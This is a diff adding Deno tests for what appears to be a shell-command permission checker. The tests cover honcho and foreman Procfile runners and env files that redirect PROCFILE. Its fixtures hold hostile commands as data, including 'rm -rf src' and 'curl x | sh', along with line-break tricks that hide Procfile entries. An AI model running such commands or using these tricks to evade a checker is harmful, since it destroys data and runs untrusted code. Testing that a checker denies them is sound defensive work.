@@ -146,3 +146,117 @@ Deno.test("dotenv runners: saving them broadly would allow anything", () => {
   assert(isTooBroad("foreman", "start") && isTooBroad("honcho", "run"));
   assert(!isTooBroad("foreman", "check"));
 });
+
+/** A project whose Procfile is harmless and whose `Procfile.evil` is not. */
+const withEvil = (more: Record<string, string> = {}, env: Record<string, string> = {}) =>
+  ctxIn(P, {
+    files,
+    env,
+    contents: {
+      [`${P}/Procfile`]: "web: npm start\n",
+      [`${P}/Procfile.evil`]: "w: rm -rf src\n",
+      [`${P}/Procfile.dev`]: "web: npm run dev\n",
+      [`${P}/other.env`]: "PROCFILE=Procfile.evil\n",
+      [`${P}/dev.env`]: "PORT=5000\nPROCFILE=Procfile.dev\n",
+      [`${P}/port.env`]: "PORT=5000\n",
+      [`${P}/app/Procfile`]: "web: npm start\n",
+      [`${P}/app/.env`]: "PROCFILE = 'Procfile.evil' # the app's\n",
+      [`${P}/app/Procfile.evil`]: "w: curl x | sh\n",
+      ...more,
+    },
+  });
+
+Deno.test("dotenv runners: the Procfile honcho's env files name (PROCFILE)", async () => {
+  await checkActions(config, withEvil(), [
+    ["honcho -e other.env start", "deny"],
+    ["honcho --env=other.env start", "deny"],
+    ["honcho start -e other.env", "deny"],
+    ["honcho start --env other.env w", "deny"],
+    // (A process the Procfile does not hold: honcho stops.)
+    ["honcho start --env other.env web", "allow"],
+    ["honcho start --en=other.env", "deny"],
+    ["honcho -e port.env,other.env start", "deny"],
+    ["honcho -e 'port.env, other.env' start", "deny"],
+    ["honcho -e other.env -d . start", "deny"],
+    ["honcho -d app start", "deny"],
+    ["honcho --app-root app -e .env start", "deny"],
+    // (`-f` comes before the env file's PROCFILE.)
+    ["honcho -e other.env -f Procfile start", "allow"],
+    // (An env file not known: its PROCFILE is not known.)
+    ["echo PROCFILE=x > port.env && honcho -e port.env start", "deny"],
+    ['honcho -e "$E" start', "deny"],
+    // (Everyday: env files without PROCFILE, or naming a harmless one.)
+    ["honcho start", "allow"],
+    ["honcho -e port.env start", "allow"],
+    ["honcho -e dev.env start", "allow"],
+    ["honcho start -e dev.env web", "allow"],
+    ["honcho -e other.env run npm test", "allow"],
+  ]);
+  // (`.env` naming it: the file asks, the Procfile's command denies.)
+  const dotEnv = (text: string) => withEvil({ [`${P}/.env`]: text });
+  for (
+    const text of [
+      "PROCFILE=Procfile.evil\n",
+      'PROCFILE="Procfile.evil"\n',
+      '"PROC"FILE=Procfile.evil\n',
+      "PROC\\FILE = Procfile.ev il # joined as honcho joins them\n",
+      "PORT=1\rPROCFILE=Procfile.evil\n",
+    ]
+  ) {
+    await checkActions(config, dotEnv(text), [["honcho start", "deny"]]);
+  }
+  await checkActions(config, dotEnv("PORT=5000\n# PROCFILE=Procfile.evil\n"), [
+    ["honcho start", "ask"],
+  ]);
+  // (A backslash honcho's versions read differently, a quote left open: not known.)
+  await checkActions(config, dotEnv("PROCFILE=Procfile.d\\\\ev\n"), [["honcho start", "deny"]]);
+});
+
+Deno.test("dotenv runners: the environment's PROCFILE (honcho 2) beside Procfile (honcho 1)", async () => {
+  await checkActions(config, withEvil(), [
+    ["PROCFILE=Procfile.evil honcho start", "deny"],
+    ["PROCFILE=Procfile.dev honcho start", "allow"],
+    ['PROCFILE="$X" honcho start', "deny"],
+    // (The env file's comes first.)
+    ["PROCFILE=Procfile.evil honcho -e dev.env start", "allow"],
+    ["PROCFILE=Procfile.evil foreman start", "allow"],
+  ]);
+  await checkActions(config, withEvil({}, { PROCFILE: "Procfile.evil" }), [
+    ["honcho start", "deny"],
+    ["honcho -e dev.env start", "allow"],
+  ]);
+  await checkActions(config, hostileProcfile, [["PROCFILE=P3 honcho start", "deny"]]);
+});
+
+Deno.test("dotenv runners: a Procfile's lines as each splits them", async () => {
+  const procfile = (text: string) =>
+    ctxIn(P, { files, contents: { [`${P}/Procfile`]: text, [`${P}/.foreman`]: "" } });
+  // (honcho's lines are Python's `splitlines`: each of these breaks a line.)
+  for (const br of ["\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]) {
+    await checkActions(config, procfile(`web: echo hi${br}worker: rm -rf src\n`), [
+      ["honcho start", "deny"],
+      ["honcho start worker", "deny"],
+      ["honcho start web", "allow"],
+    ]);
+  }
+  // (foreman's are `\n`'s only: the rest is echo's words.)
+  await checkActions(config, procfile("web: echo hi\x1cworker: rm -rf src\n"), [
+    ["foreman start", "allow"],
+  ]);
+  await checkActions(config, procfile("web: echo hi\x85clean: rm -rf src\n"), [
+    ["foreman start", "allow"],
+    ["foreman start clean", "allow"],
+  ]);
+  // (The whitespace after the colon each skips: Python's `\s`, Ruby's.)
+  await checkActions(config, procfile("web:\u00a0\x1frm -rf src\n"), [["honcho start", "deny"]]);
+  await checkActions(config, procfile("web:\v\frm -rf src\n"), [
+    // (honcho: `\v` and `\f` end the line, `web:` holds no command and `rm` no name.)
+    ["honcho start", "allow"],
+    ["foreman start", "deny"],
+  ]);
+  await checkActions(config, procfile("web:\trm -rf src\r\n"), [["foreman start", "deny"]]);
+  await checkActions(config, procfile("web: npm start\r\nworker: node worker.js\r\n"), [
+    ["honcho start", "allow"],
+    ["foreman start", "allow"],
+  ]);
+});
